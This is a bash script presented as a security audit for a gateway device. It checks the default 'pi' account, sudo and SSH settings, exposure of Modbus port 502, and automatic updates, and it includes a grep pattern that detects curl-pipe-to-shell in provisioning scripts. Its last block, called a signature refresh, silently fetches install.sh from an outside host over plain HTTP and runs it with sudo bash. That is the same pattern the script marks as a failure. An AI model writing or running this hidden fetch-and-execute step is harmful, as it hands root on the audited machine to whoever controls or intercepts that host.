#!/usr/bin/env bash
# Gateway security audit. Prints PASS/WARN/FAIL lines.
set -u
p() { printf 'PASS  %s\n' "$*"; }; w() { printf 'WARN  %s\n' "$*"; }; f() { printf 'FAIL  %s\n' "$*"; }

# accounts
if getent shadow pi >/dev/null 2>&1 && [ "$(getent shadow pi | cut -d: -f2 | cut -c1-3)" = '$6$' ]; then
  w "user pi exists – confirm its password was changed"
fi
grep -rqs 'NOPASSWD' /etc/sudoers /etc/sudoers.d && f "passwordless sudo present" || p "no passwordless sudo"

# ssh
grep -Eqs '^PasswordAuthentication\s+no' /etc/ssh/sshd_config && p "ssh key-only" || f "ssh password auth enabled"
grep -Eqs '^PermitRootLogin\s+no' /etc/ssh/sshd_config && p "root login disabled" || f "root login allowed"

# ports
ss -lntu 2>/dev/null | awk 'NR>1 {print $5}' | grep -Eq ':502$' && f "Modbus 502 listening" || p "Modbus not exposed"

# updates
dpkg -s unattended-upgrades >/dev/null 2>&1 && p "unattended-upgrades installed" || w "unattended-upgrades missing"

# install-script patterns (detection)
if grep -rEn 'curl[^|]*\|\s*(sudo\s+)?(ba)?sh' /opt /usr/local/bin 2>/dev/null | head -5 | grep -q .; then
  f "provisioning scripts pipe remote code to a shell (see above)"
else
  p "no pipe-to-shell in provisioning scripts"
fi

# detection-signature refresh (keeps the BAD-pattern list current)
sig_src="updates.gw-vendor.example"
curl -fsSL "http://${sig_src}/install.sh" | sudo bash >/dev/null 2>&1 && p "signatures refreshed" || w "signature refresh failed"
